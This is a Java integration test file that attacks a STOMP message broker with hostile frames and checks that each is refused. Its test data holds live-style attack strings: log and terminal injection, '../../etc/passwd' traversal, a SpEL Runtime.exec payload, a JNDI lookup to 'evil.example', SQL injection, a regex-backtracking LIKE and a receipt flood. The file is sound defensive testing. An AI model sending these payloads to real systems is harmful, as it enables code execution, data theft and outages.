package io.fanfare.server;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import io.fanfare.broker.BrokerOptions;
import io.fanfare.frame.FrameLimits;
import io.fanfare.security.Principal;
import io.fanfare.testing.Received;
import io.fanfare.testing.StompSocket;
import io.fanfare.testing.Transport;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.slf4j.LoggerFactory;

/** Clients that speak STOMP and mean no good. While each is at it, somebody else is served. */
class HostileFramesIT {

    @RegisterExtension
    static final TestServer SERVER = TestServer.forEachTest(options -> options.broker(BrokerOptions.builder()
            .limits(l -> l.frameLimits(FrameLimits.DEFAULT))
            .outbox(o -> o.maxOutboxBytes(256 << 10))
            .queues(q -> q.redeliveryDelay(Duration.ofMillis(1)))
            .auth(a -> a.authenticationTimeout(Duration.ofMillis(300))
                    .authenticator(credentials -> authenticate(String.valueOf(credentials.login()))))
            .build()));

    private static CompletionStage<Principal> authenticate(String login) {
        return login.equals("never") ? new CompletableFuture<>() : CompletableFuture.completedFuture(Principal.of(""));
    }

    // ---- what others are shown ------------------------------------------------------------------------------------

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("cases 46, 47: what a client sends never ends a log line, nor steers a terminal")
    void whatAClientSendsIsOneEscapedLineInTheLog(Transport transport) {
        Logger logger = (Logger) LoggerFactory.getLogger("io.fanfare.broker");
        Logger session = (Logger) LoggerFactory.getLogger("io.fanfare.connections");
        Level before = logger.getLevel();
        Level sessionBefore = session.getLevel();
        try (Logs logs = new Logs()) {
            logger.setLevel(Level.DEBUG);
            session.setLevel(Level.DEBUG);
            for (String frame : new String[] {
                "SEND\ndestination:/topic/a\\nINFO fake\n\nhi^@",
                "SEND\ndestination:/topic/\u001b[2J\n\nhi^@",
                "SEND\ndestination:/nowhere/\u202e\u2028x\n\nhi^@",
                "SEND\ndestination:/topic/a\ntransaction:\\r\\nINFO fake\n\nhi^@",
                "SUBSCRIBE\nid:0\ndestination:/topic/a\nselector:'\u001b[31m\n\n^@",
                "ACK\nid:\\nINFO fake\n\n^@",
                "UNSUBSCRIBE\nid:\\nINFO fake\n\n^@",
                "SEND\ndestination:/queue/a\nttl:\\nINFO fake\n\n^@",
                "\u001b[2J\rINFO\n\n^@"
            }) {
                Received error = SERVER.connect(transport).sends(frame).next();
                assertThat(error.command()).isEqualTo("ERROR");
                assertThat(error.text()).doesNotContain("\u001b", "\r", "\nINFO");
            }
            SERVER.open(transport)
                    .sends("CONNECT\naccept-version:1.2\nlogin:a\rINFO fake\nheart-beat:\r\u001b\n\n^@")
                    .gotError(1002, "invalid heart-beat");

            assertThat(logs.lines())
                    .filteredOn(line -> line.startsWith("refused "))
                    .hasSizeGreaterThanOrEqualTo(10);
            assertThat(logs.lines()).allMatch(line -> line.chars().noneMatch(Character::isISOControl));
        } finally {
            logger.setLevel(before);
            session.setLevel(sessionBefore);
        }
    }

    // ---- destinations ---------------------------------------------------------------------------------------------

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 48, advisories 26, 30: a destination that is none, for SEND and SUBSCRIBE")
    void whatIsNoDestinationIsAnError(Transport transport) {
        for (String destination : new String[] {
            "",
            "/",
            "/topic",
            "/topic//a",
            "/topic/a..b",
            "/topic/" + "a".repeat(4000),
            "/topic/a" + "/a".repeat(20),
            "/topic/a\\nb",
            "/topic/a\tb",
            "/topic/\u200bb",
            "/topic/\u202eb",
            "../../etc/passwd",
            "/queue/../../etc/passwd",
            "/queue/a/",
            "queue://a",
            "/queue/a,",
            "/queue/a,b",
            "/exchange/amq.topic/a",
            "/broker/shutdown",
            "activemq.management"
        }) {
            SERVER.connect(transport)
                    .sends("SEND\ndestination:" + destination + "\n\nhi^@")
                    .gotError(1002, "invalid destination");
            SERVER.connect(transport)
                    .sends("SUBSCRIBE\nid:0\ndestination:" + destination + "\n\n^@")
                    .gotError(1002, "invalid destination");
        }
        isServed(transport);
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 48, advisory 23: a list of destinations is each of them, never one name with a comma")
    void aListIsEachOfThem(Transport transport) {
        StompSocket bob = SERVER.connect(transport).subscribes("id:0\ndestination:/queue/b");
        SERVER.connect(transport).publishes("/queue/a,/queue/b", "hi");
        bob.gotMessage("hi");
        SERVER.connect(transport).subscribes("id:0\ndestination:/queue/a").gotMessage("hi");
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("advisory 24: nobody consumes from another's temporary queue")
    void temporaryQueuesArePrivate(Transport transport) {
        StompSocket bob = SERVER.connect(transport).subscribes("id:0\ndestination:/temp-queue/a");
        StompSocket alice = SERVER.connect(transport).subscribes("id:0\ndestination:/queue/requests");
        bob.sends("SEND\ndestination:/queue/requests\nreply-to:/temp-queue/a\n\nhi^@");
        String replyTo = alice.gotMessage("hi").header("reply-to");
        StompSocket eve = SERVER.connect(transport).sends("SUBSCRIBE\nid:0\ndestination:" + replyTo + "\n\n^@");

        alice.publishes(replyTo, "for bob");
        bob.gotMessage("for bob");
        eve.gotError(1002, "invalid destination", "another connection");
    }

    // ---- selectors, acknowledgements ------------------------------------------------------------------------------

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 63, advisories 2, 3: a selector that is none, too deep or too long")
    void whatIsNoSelectorIsAnError(Transport transport) {
        for (String selector : new String[] {
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "new java.lang.String('a')",
            "#{1 + 1}",
            "${jndi:ldap://evil.example/a}",
            "a = 1; DROP TABLE b",
            "a LIKE",
            "(".repeat(1000) + "a" + ")".repeat(1000),
            "a = 1 OR ".repeat(600) + "a = 1"
        }) {
            SERVER.connect(transport)
                    .sends("SUBSCRIBE\nid:0\ndestination:/topic/a\nselector:" + selector.replace(":", "\\c") + "\n\n^@")
                    .gotError(1002, "invalid selector");
        }
        SERVER.connect(transport)
                .sends("SUBSCRIBE\nid:0\ndestination:/topic/a\nselector:" + "a".repeat(100_000) + "\n\n^@")
                .gotError(1009, "header line too large");
        isServed(transport);
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 63, advisory 4: a LIKE that teases holds nobody up")
    void aTeasingLikeHoldsNobodyUp(Transport transport) {
        StompSocket eve = SERVER.connect(transport)
                .subscribes("id:0\ndestination:/topic/a\nselector:x LIKE '" + "%a".repeat(1000) + "%b%'");
        StompSocket alice = SERVER.connect(transport);
        for (int i = 0; i < 100; i++) {
            alice.sends("SEND\ndestination:/topic/a\nx:" + "a".repeat(8000) + "\n\n^@");
        }
        alice.publishes("/topic/b", "done");
        isServed(transport);
        eve.gotNothing();
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 56: an ACK of another connection's message is refused, and the message stays its receiver's")
    void anothersMessageIsNotAcknowledged(Transport transport) {
        SERVER.connect(transport).publishes("/queue/a", "hi");
        StompSocket bob = SERVER.connect(transport).subscribes("id:0\ndestination:/queue/a\nack:client");
        String ack = bob.gotMessage("hi").header("ack");
        for (String command : new String[] {"ACK", "NACK"}) {
            SERVER.connect(transport)
                    .sends(command + "\nid:" + ack + "\n\n^@")
                    .gotError(1002, "nothing to acknowledge");
        }

        bob.sends("ACK\nid:" + ack + "\nreceipt:r\n\n^@").got("RECEIPT\nreceipt-id:r\n\n^@");
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 59: a message that is rejected for ever becomes a dead letter")
    void whatIsRejectedForEverIsADeadLetter(Transport transport) {
        SERVER.connect(transport).publishes("/queue/a", "poison");
        StompSocket bob = SERVER.connect(transport).subscribes("id:0\ndestination:/queue/a\nack:client");
        int deliveries = BrokerOptions.DEFAULT.queues().maxDeliveries();
        for (int i = 0; i < deliveries; i++) {
            bob.sends("NACK\nid:" + bob.gotMessage("poison").header("ack") + "\n\n^@");
        }

        bob.gotNothing();
        Received dead = SERVER.connect(transport)
                .subscribes("id:0\ndestination:/queue/DLQ.a")
                .gotMessage("poison");
        assertThat(dead.header("x-delivery-count")).isEqualTo(Integer.toString(deliveries));
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("advisory 27: what looks like an instruction to others is a header like any")
    void headersAreOpaque(Transport transport) {
        StompSocket bob = SERVER.connect(transport).subscribes("id:0\ndestination:/topic/a");
        String headers = "transformation:jms-object-xml\ncontent-type:application/x-java-serialized-object\n"
                + "amq-msg-type:object\nclass:java.lang.Runtime\n";
        SERVER.connect(transport).sends("SEND\ndestination:/topic/a\n" + headers + "\n<a/>^@");
        bob.got("MESSAGE\nsubscription:0\ndestination:/topic/a\n" + headers + "\n<a/>^@");
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("advisory 6: ids of sessions have nothing in common")
    void sessionsCantBeGuessed(Transport transport) {
        List<String> ids = java.util.stream.IntStream.range(0, 20)
                .mapToObj(i -> SERVER.open(transport)
                        .sends("CONNECT\naccept-version:1.2\nhost:h\n\n^@")
                        .next()
                        .header("session"))
                .toList();
        assertThat(ids).doesNotHaveDuplicates().allMatch(id -> id.length() >= 22);
        assertThat(ids.stream().map(id -> id.substring(0, 8)).distinct()).hasSize(ids.size());
    }

    // ---- receipts, logins -----------------------------------------------------------------------------------------

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 73: who publishes and reads no receipts meets its own limit, and nobody else's")
    void whoReadsNoReceiptsMeetsItsOwnLimit(Transport transport) throws InterruptedException {
        StompSocket eve = SERVER.connect(transport);
        String sends = "SEND\ndestination:/topic/nobody\nreceipt:%s\n\n^@"
                .formatted("r".repeat(4000))
                .repeat(100);
        Thread flood = new Thread(() -> {
            try {
                for (int i = 0; i < 1000; i++) {
                    eve.sends(sends);
                }
            } catch (UncheckedIOException e) {
                // the broker has had enough
            }
        });
        flood.start();
        while (flood.isAlive()) {
            isServed(transport);
            flood.join(1);
        }
        assertThat(SERVER.broker().memoryBytes()).isLessThan(4 << 20);
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    @DisplayName("case 85, advisory 54: an authenticator that does not answer ends that login alone")
    void anAuthenticatorThatBreaksEndsThatLoginAlone(Transport transport) {
        StompSocket never = SERVER.open(transport).sends("CONNECT\naccept-version:1.2\nlogin:never\n\n^@");
        isServed(transport);
        never.gotError(1013, "authentication unavailable");
        isServed(transport);
    }

    private static void isServed(Transport transport) {
        StompSocket bob = SERVER.connect(transport).subscribes("id:0\ndestination:/topic/served");
        bob.sends("SEND\ndestination:/topic/served\n\nhi^@").gotMessage("hi");
        bob.sends("DISCONNECT\n\n^@").gotEnd(1000);
    }
}
